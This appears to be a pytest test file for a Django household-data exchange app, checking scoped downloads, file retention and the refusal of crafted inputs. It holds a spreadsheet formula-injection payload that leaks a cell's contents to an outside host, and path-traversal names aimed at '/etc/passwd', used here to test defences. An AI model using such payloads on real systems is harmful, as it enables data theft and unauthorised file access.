"""Stored files: never served from /media/, downloaded only through views that check the
user and the area (an officer moved away loses their old imports), written without live
formulas, removed after the retention period, and the admin's temporary import files
kept out of reach of crafted names."""

import importlib
import io
import os
from datetime import timedelta
from pathlib import Path

import pytest
from django.core.files.base import ContentFile
from django.urls import clear_url_caches, reverse
from django.utils import timezone
from openpyxl import load_workbook

from exchange import services, tasks, tmp_storage
from exchange.models import ImportBatch
from programs.models import Intervention
from reports.models import ReportPack
from reports.tasks import remove_expired_packs

from .test_exchange_import import GOOD_MEMBERS, HOUSEHOLD_HEADERS, csv_bytes, household_row, workbook_bytes
from .test_exchange_interventions import csv_format_index, programs, support_row, upload  # noqa: F401


@pytest.fixture(autouse=True)
def media(settings, tmp_path, client):
    settings.MEDIA_ROOT = tmp_path / "media"
    settings.IMPORT_EXPORT_TMP_DIR = str(tmp_path / "import-tmp")
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"  # pages in English, as the messages below


def checked(user, data: bytes, name="ds.xlsx") -> ImportBatch:
    batch = services.create_batch(user=user, upload=io.BytesIO(data), file_name=name)
    return services.check_batch(batch.pk)


def with_a_rejected_row() -> bytes:
    bad = [*GOOD_MEMBERS, dict(GOOD_MEMBERS[2], **{"Giới tính": "?"})]
    return workbook_bytes([household_row()], bad)


def downloads(batch):
    return [reverse("exchange:batch", args=[batch.pk]), reverse("exchange:rejected", args=[batch.pk]),
            reverse("exchange:file", args=[batch.pk])]


# -- /media/ is not served --------------------------------------------------------------------

@pytest.fixture
def development_urls(settings):
    """The URLconf as `make run` builds it (config.settings.development: DEBUG on)."""
    import config.urls

    settings.DEBUG = True
    importlib.reload(config.urls)
    clear_url_caches()
    yield
    settings.DEBUG = False
    importlib.reload(config.urls)
    clear_url_caches()


def test_media_files_are_not_served_to_anyone_in_development(world, client, development_urls):
    batch = checked(world.officer, with_a_rejected_row())
    assert (Path(batch.file.path)).exists()
    url = "/media/" + batch.file.name
    assert client.get(url).status_code == 404
    client.force_login(world.officer)
    assert client.get(url).status_code == 404
    client.force_login(world.superuser)
    assert client.get(url).status_code == 404


# -- downloads through views, scoped ------------------------------------------------------------

def test_the_uploaded_file_is_downloaded_by_its_uploader_only(world, client):
    data = with_a_rejected_row()
    batch = checked(world.officer, data)
    url = reverse("exchange:file", args=[batch.pk])
    assert client.get(url).status_code == 302  # to the sign-in page
    client.force_login(world.officer)
    response = client.get(url)
    assert response.status_code == 200 and b"".join(response.streaming_content) == data
    for other in (world.officer2, world.reviewer, world.province_admin):
        client.force_login(other)
        assert client.get(url).status_code == 404


def test_the_check_records_the_communes_the_file_names_inside_the_area(world, both_paths):
    rows = [household_row(), household_row(code="0200", commune="02701")]  # Y Tý: outside the officer's area
    batch = checked(world.officer, workbook_bytes(rows, GOOD_MEMBERS))
    assert list(batch.communes.all()) == [world.tathang]
    everywhere = checked(world.superuser, workbook_bytes(rows, GOOD_MEMBERS))
    assert set(everywhere.communes.all()) == {world.tathang, world.yty}


def test_officer_moved_to_another_commune_loses_their_old_import_and_its_files(world, client):
    batch = checked(world.officer, with_a_rejected_row())
    assert batch.rejected
    client.force_login(world.officer)
    assert [client.get(url).status_code for url in downloads(batch)] == [200, 200, 200]
    world.officer.unit = world.yty
    world.officer.save(update_fields=["unit"])
    assert [client.get(url).status_code for url in downloads(batch)] == [404, 404, 404]
    admin_preview = reverse("admin:households_household_import_preview", args=[batch.pk])
    assert client.get(admin_preview).status_code == 404
    assert not ImportBatch.objects.for_user(world.officer).exists()
    assert ImportBatch.objects.for_user(world.superuser).filter(pk=batch.pk).exists()


def test_an_import_that_named_no_commune_is_lost_when_the_role_no_longer_imports(world, client):
    batch = checked(world.officer, workbook_bytes([household_row(commune="99999")], []))
    assert not batch.communes.exists()
    client.force_login(world.officer)
    assert client.get(batch.get_absolute_url()).status_code == 200
    world.officer.role = "reviewer"
    world.officer.unit = world.district
    world.officer.save(update_fields=["role", "unit"])
    assert client.get(batch.get_absolute_url()).status_code == 404


# -- no live formulas in the rejected rows ------------------------------------------------------

def test_the_rejected_rows_workbook_writes_formulas_as_text(world, client):
    attack = '=HYPERLINK("http://example.org/?leak="&A1,"Open")'
    row = household_row(head=attack, **{"Phân loại": "?"})
    data = csv_bytes(HOUSEHOLD_HEADERS, [row])
    batch = checked(world.officer, data, name="ho.csv")
    assert batch.rejected == 1
    client.force_login(world.officer)
    response = client.get(reverse("exchange:rejected", args=[batch.pk]))
    book = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    cells = [cell for row in book.active.iter_rows(min_row=2) for cell in row if "HYPERLINK" in str(cell.value)]
    assert cells and all(cell.data_type == "s" and cell.value == "'" + attack for cell in cells)


# -- retention -------------------------------------------------------------------------------

def age(model, pk, days):
    model.objects.filter(pk=pk).update(created_at=timezone.now() - timedelta(days=days))


def test_import_files_past_the_retention_period_are_removed_and_the_records_stay(world, client, settings):
    settings.UPLOAD_RETENTION_DAYS = 90
    old, recent = checked(world.officer, with_a_rejected_row()), checked(world.officer, with_a_rejected_row())
    age(ImportBatch, old.pk, 91)
    age(ImportBatch, recent.pk, 89)
    path = Path(old.file.path)
    assert tasks.remove_expired_files()["imports"] == 1
    assert tasks.remove_expired_files()["imports"] == 0  # idempotent
    old.refresh_from_db()
    assert not path.exists() and old.file_removed_at is not None
    assert old.issues.exists() and old.rejected  # the record and its report stay
    assert Path(recent.file.path).exists()
    client.force_login(world.officer)
    for url in (reverse("exchange:file", args=[old.pk]), reverse("exchange:rejected", args=[old.pk])):
        response = client.get(url, follow=True)
        assert response.redirect_chain[0][0] == old.get_absolute_url()
        assert "is no longer kept" in response.content.decode()
    assert "was removed on" in client.get(old.get_absolute_url()).content.decode()


def test_report_pack_files_past_the_retention_period_are_removed_and_the_records_stay(world, client, settings):
    settings.UPLOAD_RETENTION_DAYS = 90
    made = ReportPack.objects.create(created_by=world.officer, unit=world.tathang, year=2025,
                                     status=ReportPack.Status.DONE, units_total=1, units_done=1,
                                     file=ContentFile(b"PK", name="pack.xlsx"))
    age(ReportPack, made.pk, 91)
    path = Path(made.file.path)
    assert remove_expired_packs() == 1 and remove_expired_packs() == 0
    made.refresh_from_db()
    assert not path.exists() and made.file_removed_at is not None
    client.force_login(world.officer)
    response = client.get(reverse("reports:pack_download", args=[made.pk]), follow=True)
    assert response.redirect_chain[0][0] == made.get_absolute_url()
    assert "is no longer kept" in response.content.decode()


# -- the admin's temporary import files ----------------------------------------------------------

def process_import(client, name, model="programs_intervention"):
    return client.post(reverse(f"admin:{model}_process_import"), {
        "import_file_name": name, "original_file_name": "ho-tro.csv", "format": csv_format_index(),
        "resource": 0}, follow=True)


@pytest.mark.parametrize("model", ["programs_intervention", "reviews_survey"])
def test_admin_import_refuses_a_crafted_temporary_file_name(world, client, tmp_path, model):
    victim = tmp_path / "victim.csv"
    victim.write_text("Mã xã\n02794\n")
    client.force_login(world.officer)
    for name in (str(victim), "../" * 8 + str(victim).lstrip("/"), "../../etc/passwd"):
        response = process_import(client, name, model)
        assert response.redirect_chain[0][0] == reverse(f"admin:{model}_import")
        assert "cannot be confirmed" in response.content.decode()
    assert victim.exists()


def test_admin_import_refuses_another_sessions_temporary_file(world, client, programs):  # noqa: F811
    client.force_login(world.officer)
    response = client.post(reverse("admin:programs_intervention_import"), {
        "import_file": upload([support_row()]), "format": csv_format_index(), "resource": 0})
    token = response.context["confirm_form"].initial["import_file_name"]
    assert tmp_storage.is_token(token)
    stored = Path(tmp_storage.directory()) / token
    assert stored.exists()
    client.force_login(world.officer2)
    assert "cannot be confirmed" in process_import(client, token).content.decode()
    assert stored.exists() and not Intervention.objects.exists()
    client.force_login(world.officer)  # a new session of the uploader: the token was handed to the old one
    assert "cannot be confirmed" in process_import(client, token).content.decode()
    assert stored.exists()


def test_admin_import_confirms_its_own_temporary_file_and_removes_it(world, client, programs):  # noqa: F811
    client.force_login(world.officer)
    response = client.post(reverse("admin:programs_intervention_import"), {
        "import_file": upload([support_row()]), "format": csv_format_index(), "resource": 0})
    token = response.context["confirm_form"].initial["import_file_name"]
    process_import(client, token)
    assert Intervention.objects.count() == 1
    assert not (Path(tmp_storage.directory()) / token).exists()


def test_temporary_storage_refuses_names_it_did_not_make():
    for name in ("../../etc/passwd", "/etc/passwd", "0" * 31, "A" * 32, ""):
        with pytest.raises(Exception, match="Refused"):
            tmp_storage.PrivateTempStorage(name=name or "x").read()


def test_unconfirmed_temporary_files_are_removed_after_a_day():
    storage = tmp_storage.PrivateTempStorage()
    storage.save(b"data")
    old = Path(tmp_storage.directory()) / storage.name
    day_ago = old.stat().st_mtime - 2 * 24 * 3600
    os.utime(old, (day_ago, day_ago))
    fresh = tmp_storage.PrivateTempStorage()
    fresh.save(b"data")
    assert tmp_storage.remove_old_files() == 1
    assert not old.exists() and (Path(tmp_storage.directory()) / fresh.name).exists()


def test_imports_made_before_batches_recorded_their_communes_get_them_from_their_audit_events(world):
    from importlib import import_module

    from django.apps import apps

    from .test_exchange_import import run

    backfill = import_module("exchange.migrations.0012_backfill_batch_communes").backfill
    imported = run(world.superuser, workbook_bytes([household_row(commune="02701")], [
        dict(GOOD_MEMBERS[0], **{"Mã xã": "02701"})]))
    assert imported.status == ImportBatch.Status.DONE
    checked_only = checked(world.officer, with_a_rejected_row())
    for batch in (imported, checked_only):
        batch.communes.clear()
    backfill(apps, None)
    assert list(imported.communes.all()) == [world.yty]
    assert list(checked_only.communes.all()) == [world.tathang]
